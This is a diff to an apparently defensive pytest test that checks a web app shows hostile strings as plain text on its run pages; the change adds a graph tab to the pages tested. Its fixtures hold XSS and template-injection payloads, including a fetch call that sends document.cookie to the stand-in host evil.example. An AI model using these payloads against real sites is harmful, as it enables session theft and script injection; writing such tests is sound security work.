@@ -54,6 +54,12 @@ _RUNS: Final = (
     "<marquee onstart={}>",
 )
 _CALLS: Final = ("alert(1)", "fetch('http://evil.example/?'+document.cookie)", "window.owned=1")
+TABS: Final = (
+    "",
+    "/history?only=all",
+    "/artifacts",
+    "/graph?state=one",
+)
 _ODD: Final = (
     "{{ 7 * 7 }}{% raw %}{{ t }}",
     "${7*7} #{7*7} <%= 7*7 %>",
@@ -153,7 +159,7 @@ def test_hostile_texts_stand_on_every_page_as_text(
     page, points = watched.page, 0
     odd = (Path(__file__).parent / "odd.js").read_text("utf-8")
     for text, run in runs:
-        paths = [f"/runs/{run}{tab}" for tab in ("", "/history?only=all", "/artifacts")]
+        paths = [f"/runs/{run}{tab}" for tab in TABS]
         assert page.evaluate(odd, paths) == "", text
         points += len(paths)
     for path in (
@@ -169,7 +175,7 @@ def test_hostile_texts_stand_on_every_page_as_text(
     record_property("points", points)
     assert watched.bad == []
     assert page.evaluate("window.owned") is None
-    assert points == 3 * len(runs) + 4
+    assert points == 4 * len(runs) + 4
 
 
 @pytest.mark.parametrize("number", [0, 20, 60, 100])
